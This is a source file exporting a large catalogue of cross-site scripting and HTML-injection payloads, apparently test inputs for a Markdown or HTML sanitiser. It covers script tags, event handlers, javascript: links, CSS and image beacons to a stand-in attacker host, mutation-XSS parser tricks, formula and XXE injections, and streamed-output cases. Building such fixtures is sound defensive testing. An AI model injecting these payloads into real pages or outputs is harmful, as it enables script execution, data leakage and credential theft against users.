// Hostile answers. HIT stands for a script that tells of itself, EVIL for an address that nothing may ask.
// prettier-ignore
export const PAYLOADS = {
  scripts: [
    '<script>HIT</script>', '<SCRIPT>HIT</SCRIPT>', '<script >HIT</script >', '<script/x>HIT</script>', '<script\n>HIT</script\n>', '<script\t\tdefer>HIT</script>',
    '<script src=EVIL></script>', '<script src="EVIL" async></script>', '<script type=module>HIT</script>', '<script type="text/javascript">HIT</script>',
    '<script type=importmap>{"imports":{"a":"EVIL"}}</script><script type=module>import "a"</script>', '<script>import("EVIL")</script>', '<script>fetch("EVIL")</script>',
    '<script>new Image().src="EVIL"</script>', '<script>navigator.sendBeacon("EVIL")</script>', '<script>new WebSocket("EVIL".replace("http","ws"))</script>',
    '<script>/*\n*/HIT/*\n*/</script>', '<script>\n\nHIT\n\n</script>', '<scr<script>ipt>HIT</scr</script>ipt>', '<<script>HIT//<</script>', '<script>HIT', '</script><script>HIT</script>',
    '<script>setTimeout("HIT")</script>', '<script>Function("HIT")()</script>', '<script>eval("HIT")</script>',
    '<svg><script>HIT</script></svg>', '<svg><script href="data:text/javascript,HIT"/></svg>', '<svg><script xlink:href=EVIL></script></svg>', '<math><mtext><script>HIT</script></mtext></math>',
    '<noscript><p title="</noscript><script>HIT</script>">', '<title><script>HIT</script></title>', '<textarea></textarea><script>HIT</script>', '<template><script>HIT</script></template>',
  ],
  handlers: [
    '<img src=x onerror=HIT>', '<img src=x onerror="HIT">', "<img src=x onerror='HIT'>", '<img src=x oNeRrOr=HIT>', '<img/src=x/onerror=HIT>', '<img src=x\nonerror\n=\nHIT>', '<img src=x onerror=HIT//', '<IMG SRC=x ONERROR=HIT>',
    '<img src="x`" `onerror=HIT>', '<img """><script>HIT</script>">', '<img src=x onerror="&#72;IT;HIT">', '<img src=x:x onerror=HIT>', '<img srcset=x onerror=HIT>', '<image src=x onerror=HIT>', '<picture><source srcset=x><img onerror=HIT src=x></picture>',
    '<svg onload=HIT>', '<svg/onload=HIT>', '<svg><animate onbegin=HIT attributeName=x dur=1s>', '<svg><set onbegin=HIT attributeName=x>', '<body onload=HIT>', '<body onpageshow=HIT>',
    '<input autofocus onfocus=HIT>', '<select autofocus onfocus=HIT>', '<textarea autofocus onfocus=HIT>', '<button autofocus onfocus=HIT>b</button>', '<div tabindex=1 autofocus onfocus=HIT>d</div>',
    '<details open ontoggle=HIT><summary>s</summary></details>', '<video><source onerror=HIT></video>', '<video src=x onerror=HIT></video>', '<audio src=x onerror=HIT></audio>', '<marquee onstart=HIT>m</marquee>',
    '<style>@keyframes k{}</style><b style="animation-name:k" onanimationstart=HIT>b</b>', '<b style="animation:k 1ms" onanimationend=HIT>b</b>', '<object data=x onerror=HIT></object>', '<embed src=x onerror=HIT>', '<iframe onload=HIT></iframe>',
    '<link rel=stylesheet href=x onerror=HIT>', '<link rel=stylesheet href="data:text/css," onload=HIT>', '<a href=# autofocus onfocus=HIT>a</a>', '<p onclick=HIT onmouseover=HIT>p</p>', '<br onerror=HIT>', '<table background=x onload=HIT><tr><td></table>',
    '**<img src=x onerror=HIT>**', '*<svg onload=HIT>*', '# <img src=x onerror=HIT>', '> <img src=x onerror=HIT>', '- <img src=x onerror=HIT>', '1. <svg onload=HIT>', '| a |\n|---|\n| <img src=x onerror=HIT> |', '[<img src=x onerror=HIT>](https://a.example)',
    '![<img src=x onerror=HIT>](x)', '[a]: x "<img src=x onerror=HIT>"\n[a]', '~~<img src=x onerror=HIT>~~', '- [x] <img src=x onerror=HIT>', 'a[^1]\n\n[^1]: <img src=x onerror=HIT>', '<b\n\nonmouseover=HIT>\n\n<img src=x onerror=HIT>\n\n</b>',
  ],
  frames: [
    '<iframe src=EVIL></iframe>', '<iframe src="javascript:parent.HIT"></iframe>', '<iframe srcdoc="<script>parent.HIT</script>"></iframe>', '<iframe srcdoc="<img src=EVIL>"></iframe>', '<iframe src="data:text/html,<script>parent.HIT</script>"></iframe>',
    '<iframe src="java\nscript:parent.HIT"></iframe>', '<iframe src=EVIL sandbox=allow-scripts></iframe>', '<frameset><frame src=EVIL></frameset>', '<object data=EVIL></object>', '<object data="javascript:HIT"></object>', '<object type=text/html data=EVIL></object>',
    '<embed src=EVIL>', '<embed src="javascript:HIT">', '<embed type=image/svg+xml src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'parent.HIT\'/>">', '<applet code=EVIL></applet>', '<portal src=EVIL></portal>', '<fencedframe src=EVIL></fencedframe>',
  ],
  media: [
    '![p](EVIL)', '![](EVIL)', '![p](<EVIL>)', '![p](EVIL "t")', '![p][r]\n\n[r]: EVIL', '[![p](EVIL)](EVIL)', '![p](EVIL?q=secret)', '![a\nb](EVIL)', '**![p](EVIL)**', '| a |\n|---|\n| ![p](EVIL) |', '- ![p](EVIL)', '> ![p](EVIL)', '# ![p](EVIL)',
    '![p](data:image/svg+xml,<svg/onload=HIT>)', '![p](javascript:HIT)', '<img src=EVIL>', '<img srcset="EVIL 1x">', '<img src=x srcset="x, EVIL 2x">', '<img lowsrc=EVIL dynsrc=EVIL>', '<image href=EVIL>', '<picture><source srcset=EVIL><img></picture>',
    '<video src=EVIL autoplay></video>', '<video poster=EVIL></video>', '<audio src=EVIL preload=auto></audio>', '<video><source src=EVIL></video>', '<video><track src=EVIL default kind=subtitles></video>', '<input type=image src=EVIL>', '<table background=EVIL><tr><td>t</table>', '<body background=EVIL>',
    '<svg><image href=EVIL /></svg>', '<svg><use href="EVIL#a"/></svg>', '<svg><feImage href=EVIL /></svg>', '<svg><filter id=f><feImage xlink:href=EVIL /></filter><rect filter=url(#f) width=9 height=9 /></svg>',
  ],
  styles: [
    '<style>@import "EVIL";</style>', '<style>@import url(EVIL);</style>', '<style>body{background:url(EVIL)}</style>', '<style>*{list-style-image:url(EVIL)}</style>', '<style>@font-face{font-family:f;src:url(EVIL)}*{font-family:f}</style>', '<style>a[href^="h"]{background:url(EVIL)}</style>',
    '<p style="background:url(EVIL)">p</p>', '<p style="background-image:image-set(\'EVIL\' 1x)">p</p>', '<li style="list-style-image:url(EVIL)">l</li>', '<p style="content:url(EVIL)">p</p>', '<p style="cursor:url(EVIL),auto">p</p>', '<p style="border-image:url(EVIL)">p</p>', '<p style="width:expression(HIT)">p</p>',
    '<link rel=stylesheet href=EVIL>', '<link rel=preload as=image href=EVIL>', '<link rel=modulepreload href=EVIL>', '<link rel=icon href=EVIL>', '<link rel=manifest href=EVIL>', '<link rel="alternate stylesheet" href=EVIL title=t>', '<svg><style>@import "EVIL"</style></svg>',
    '<div style="position:fixed;inset:0;z-index:99999">cover</div>', '<style>p{color:transparent!important}</style>', '<font color=red size=7><marquee>loud',
  ],
  links: [
    '[c](javascript:HIT)', '[c](JaVaScRiPt:HIT)', '[c](javascript&colon;HIT)', '[c](&#106;avascript:HIT)', '[c](java&#10;script:HIT)', '[c](\\javascript:HIT)', '[c](<javascript:HIT>)', '[c](<java\tscript:HIT>)', '[c]( javascript:HIT )', '[c](javascript:HIT "t")', '[c](javascript://%0aHIT)',
    '[c](vbscript:HIT)', '[c](data:text/html,<script>HIT</script>)', '[c](data:text/html;base64,PHNjcmlwdD4=)', '[c](blob:HIT)', '[c](file:///etc/passwd)', '[c](view-source:EVIL)', '[c](about:blank)', '[c](//evil.example)', '[c](/auth/logout)', '[c](#/admin)', '[c](?x)', '[c](\u0001javascript:HIT)',
    '<javascript:HIT>', '<JAVASCRIPT:HIT>', '[c][j]\n\n[j]: javascript:HIT', '[c][j]\n\n[j]: <javascript:HIT> "t"', '[j]\n\n[j]:\njavascript:HIT', '<a href="javascript:HIT">a</a>', '<a href=javascript:HIT>a</a>', '<a href=" &#1; javascript:HIT">a</a>', '<a href="java&Tab;script:HIT">a</a>', '<a href=EVIL ping=EVIL>a</a>',
    '<svg><a xlink:href="javascript:HIT"><text y=9>a</text></a></svg>', '<math href="javascript:HIT">m</math>', '<area href="javascript:HIT">', '<map name=m><area shape=default href="javascript:HIT"></map><img usemap=#m>', '<form action="javascript:HIT"><input type=submit></form>', '<form><button formaction="javascript:HIT">b</button></form>',
    '<form action=EVIL><input name=password autofocus></form>', '<isindex action="javascript:HIT">', '[a](https://a.example" onmouseover="HIT)', '[a](https://a.example/"><img src=x onerror=HIT>)', '[a](https://a.example \'" onmouseover="HIT\')', 'https://a.example/"onmouseover="HIT', '<https://a.example/" onmouseover="HIT>', 'www.a.example/<img src=x onerror=HIT>', 'x@a.example"onmouseover=HIT',
  ],
  /** No policy of a browser says anything of these: the sanitiser alone keeps them out. */
  beyondPolicy: ['<link rel=prefetch href=EVIL>', '<link rel=preconnect href=EVIL>', '<link rel=dns-prefetch href=EVIL>', '<meta http-equiv=refresh content="0;url=EVIL">', '<meta http-equiv=refresh content="0;url=javascript:HIT">'],
  pages: [
    '<meta http-equiv=Content-Security-Policy content="script-src *">', '<meta http-equiv=Set-Cookie content=a=b>', '<base href=EVIL><img src=/x>', '<base href="javascript:/a/-HIT//"><a href=.>a</a>', '<html manifest=EVIL>', '<?xml-stylesheet href=EVIL?>', '<!DOCTYPE x [<!ENTITY e SYSTEM "EVIL">]><x>&e;</x>',
    '<xml id=x><a><![CDATA[<img src=x onerror=HIT>]]></a></xml>', '<![CDATA[<script>HIT</script>]]>', '<!--[if true]><script>HIT</script><![endif]-->', '<!-- --!><img src=x onerror=HIT> -->', '<!--><img src=x onerror=HIT>-->', '<!-- a\n\n<script>HIT</script>', '<?php HIT ?>', '<% HIT %>', '{{constructor.constructor("HIT")()}}', '${HIT}', '<div dangerouslySetInnerHTML={{__html:"<script>HIT</script>"}}>', '<div is=x-y nonce=a>n</div>', '<slot name=a><template shadowrootmode=open><script>HIT</script></template></slot>', '<dialog open><form method=dialog><button autofocus>ok</button></form></dialog>', '<input name=getElementById><form id=body><input name=children></form>',
  ],
  mutations: [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=HIT&gt;">', '<svg></p><style><a id="</style><img src=x onerror=HIT>">', '<math><mi><table><mglyph><style><img src=x onerror=HIT>', '<noscript><style></noscript><img src=x onerror=HIT>', '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=HIT>',
    '<svg><foreignObject><iframe srcdoc="<script>parent.HIT</script>">', '<svg><desc><img src=x onerror=HIT></desc></svg>', '<select><template><img src=x onerror=HIT></template></select>', '<table><td><svg><p><style><g title="</style><img src=x onerror=HIT>">', '<xmp><img src=x onerror=HIT></xmp>', '<listing>&lt;img src=x onerror=HIT&gt;</listing>', '<plaintext><img src=x onerror=HIT>', '<noembed><img src=x onerror=HIT></noembed>',
    '&lt;script&gt;HIT&lt;/script&gt;', '&#60;img src=x onerror=HIT&#62;', '\\<img src=x onerror=HIT\\>', '<img src=x on\u0000error=HIT>', '<\u0000script>HIT</script>', '\u202e<script>HIT</script>', '<ſcript>HIT</ſcript>', '＜script＞HIT＜/script＞', '<img src=x onerror=HIT title="é😀">', '😀<svg onload=HIT>é', '<scrıpt>HIT</scrıpt>', '\ud83d<img src=x onerror=HIT>', '<s\u200bcript>HIT</script>',
  ],
  fences: [
    '```html\n<img src=x onerror=HIT>\n```', '```"><img src=x onerror=HIT>\na\n```', '```js onerror=HIT\nHIT\n```', '```html\n</code></pre><script>HIT</script>\n```', '~~~<script>HIT</script>\nx\n~~~', '`<img src=x onerror=HIT>`', '`` ` `` <img src=x onerror=HIT>', '    <img src=x onerror=HIT>', '```csv\n<img src=x onerror=HIT>,EVIL\n=HYPERLINK("EVIL"),b\n```',
    '```svg\n<svg onload=HIT/>\n```', '```mermaid\ngraph TD; A["<img src=x onerror=HIT>"]-->B\n```', '```mermaid\ngraph TD; A-->B; click A href "javascript:HIT"\n```', '```mermaid\n%%{init:{"securityLevel":"loose","themeCSS":"@import url(EVIL)"}}%%\ngraph TD; A-->B\n```', '- ```\n  </code><img src=x onerror=HIT>\n  ```', '```__proto__\n<img src=x onerror=HIT>\n```', '```constructor\nx\n```\n<img src=x onerror=HIT>',
  ],
  formulas: [
    '$\\href{javascript:HIT}{x}$', '$$\\href{javascript:HIT}{x}$$', '\\(\\url{javascript:HIT}\\)', '\\[\\includegraphics{EVIL}\\]', '$\\htmlId{a}{x}$', '$\\htmlStyle{background:url(EVIL)}{x}$', '$\\htmlData{a=b}{x}$', '$\\htmlClass{"onclick=HIT}{x}$', '$\\text{<img src=x onerror=HIT>}$', '$<img src=x onerror=HIT>$', '$\\def\\a{\\a\\a}\\a$', '$\\rule{9999em}{9999em}$', '$\\unicode{<script>HIT</script>}$', '$\\color{red;background:url(EVIL)}{x}$', '$$\n<script>HIT</script>\n$$',
  ],
  streams: [
    'data: {"text":"<script>HIT</script>"}\n\n', '\n\nevent: done\ndata: {}\n\n<script>HIT</script>', 'id: 9\nevent: delta\ndata: {"text":"<img src=x onerror=HIT>"}\n\n', '"}\n\nevent: error\ndata: {"code":"<script>HIT</script>"}\n\n', '<think><img src=x onerror=HIT></think>', '[DONE]<svg onload=HIT>', '\r\n\r\n<script>HIT</script>',
  ],
};
